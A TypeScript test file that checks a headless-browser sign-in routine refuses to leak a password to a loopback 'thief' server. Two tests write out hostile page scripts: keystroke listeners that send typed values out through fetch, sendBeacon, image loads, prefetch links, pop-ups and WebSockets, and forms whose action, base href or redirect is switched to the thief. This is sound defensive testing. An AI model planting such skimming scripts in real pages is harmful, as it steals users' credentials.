import type { IncomingMessage } from "node:http";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { Loopback } from "@/server/platform/egress/testing/loopback";
import { SourceCookies } from "../fetching/source-cookies";
import type { LoginCredential } from "../login/sign-in";
import { CrawlBrowser } from "./crawl-browser";
import { findChromium } from "./find-chromium";
import { sites } from "./testing/sites";

const executablePath = await findChromium();
const loopback = new Loopback();
const allowed = new Set<string>();
const site = sites(loopback, allowed);
const canary = "violet-canary-8841";
let browser: CrawlBrowser;

beforeAll(() => {
  browser = new CrawlBrowser({ executablePath, allowed });
});
afterAll(() => browser.close());
afterEach(() => loopback.closeAll());

async function bodyOf(request: IncomingMessage): Promise<string> {
  let body = "";
  for await (const part of request) body += part;
  return body;
}

/** A form that scripts make, and that sends what is typed as JSON. */
const scriptedForm = `<div id=root></div><script>
  setTimeout(() => {
    root.innerHTML = '<form><label>Name <input name=user></label><input type=password name=pass><button>Sign in</button></form>';
    root.firstChild.onsubmit = async (event) => {
      event.preventDefault();
      const [user, pass] = event.target.querySelectorAll('input');
      const reply = await fetch('/session', { method: 'POST', body: JSON.stringify([user.value, pass.value]) });
      if (reply.ok) root.textContent = 'Welcome';
      else root.append('Wrong name or password');
    };
  }, 150);
</script>`;

/** A site with the scripted form, and another one that writes down everything it is asked or sent. */
async function aSiteAndAThief(pages: (thief: string) => Record<string, string>, password = canary) {
  const stolen: string[] = [];
  const thief = await loopback.http(async (request, response) => {
    stolen.push(`${request.url} ${JSON.stringify(request.headers)} ${await bodyOf(request)}`);
    response
      .writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" })
      .end("<form method=post action=/take><input name=user><input type=password name=pass><button>Go</button></form>");
  });
  allowed.add(thief.endpoint);
  const attempts: string[] = [];
  const own = await site({
    ...pages(thief.url),
    "/session": async (request, response) => {
      const body = await bodyOf(request);
      attempts.push(body);
      const isRight = body === JSON.stringify(["ana", password]);
      response.writeHead(isRight ? 200 : 401, isRight ? { "set-cookie": "session=s1; Path=/; HttpOnly" } : {}).end();
    },
  });
  const signIn = async (path: string) => {
    const cookies = new SourceCookies();
    const credential: LoginCredential = {
      ...{ origin: own.url, loginUrl: own.url + path, username: "ana", password: canary, oneTimeCode: null },
    };
    const signal = AbortSignal.timeout(40_000);
    const result = await browser.signIn(credential, { contextKey: "portal", cookies, signal });
    return { result, cookie: cookies.header(`${own.url}/`) };
  };
  return { own, signIn, attempts, stolen };
}

describe.skipIf(!executablePath)(
  executablePath ? "signing in through the browser" : "signing in through the browser (skipped: no Chromium)",
  () => {
    it("uses a form that only scripts make, and leaves the session in the cookies", async () => {
      const { signIn, attempts } = await aSiteAndAThief(() => ({ "/login": scriptedForm }));
      expect(await signIn("/login")).toEqual({ result: { outcome: "signed_in" }, cookie: "session=s1" });
      expect(attempts).toEqual([JSON.stringify(["ana", canary])]);
    });

    it("sends a refused password once", async () => {
      const { signIn, attempts } = await aSiteAndAThief(() => ({ "/login": scriptedForm }), "another");
      expect(await signIn("/login")).toMatchObject({ result: { outcome: "refused" }, cookie: "" });
      expect(attempts).toHaveLength(1);
    });

    it("gives nothing to a script from elsewhere, whichever way it tries, and the browser is free again after", async () => {
      const { signIn, stolen, attempts, own } = await aSiteAndAThief((thief) => ({
        "/login": `${scriptedForm}<iframe src="${thief}/frame"></iframe><script>
          const socket = new WebSocket("${thief.replace("http", "ws")}/socket");
          addEventListener("input", (event) => {
            const said = encodeURIComponent(event.target.value);
            fetch("${thief}/fetch?" + said, { mode: "no-cors" }).catch(() => {});
            navigator.sendBeacon("${thief}/beacon", event.target.value);
            new Image().src = "${thief}/image?" + said;
            document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "${thief}/prefetch?" + said }));
            open("${thief}/window?" + said);
            try { socket.send(event.target.value) } catch {}
          }, true);
        </script>`,
        "/after": `<img src="${thief}/after">`,
      }));
      expect(await signIn("/login")).toMatchObject({ result: { outcome: "signed_in" } });
      expect(attempts).toHaveLength(1);
      expect(stolen.length).toBeGreaterThan(0);
      expect(stolen.join("\n")).not.toMatch(/canary|ana\b/);
      await browser.render({ url: `${own.url}/after`, contextKey: "portal", screenshot: false });
      expect(stolen.join("\n")).toContain("/after");
    });

    it("types nothing where the form sends to, stands in, or was led to another origin", async () => {
      const form = (action: string) =>
        `<form method=post action="${action}"><input name=user><input type=password name=pass><button>Go</button></form>`;
      const { signIn, stolen } = await aSiteAndAThief((thief) => ({
        "/swapped": form(`${thief}/take`),
        "/button": form("/session").replace("<button>", `<button formaction="${thief}/take">`),
        "/base": `<base href="${thief}/">${form("take")}`,
        "/framed": `<iframe src="${thief}/frame"></iframe>`,
        "/moved": `<script>location.replace("${thief}/login")</script>`,
        "/turned": `${form("/session")}<script>
          document.querySelector("[type=password]").addEventListener("input", () => { document.forms[0].action = "${thief}/take" });
        </script>`,
      }));
      for (const path of ["/swapped", "/button", "/base", "/framed", "/moved"])
        expect((await signIn(path)).result, path).toMatchObject({ outcome: "impossible" });
      expect((await signIn("/turned")).result).toMatchObject({ outcome: "refused" });
      expect(stolen.join("\n")).not.toContain("canary");
    });
  },
);
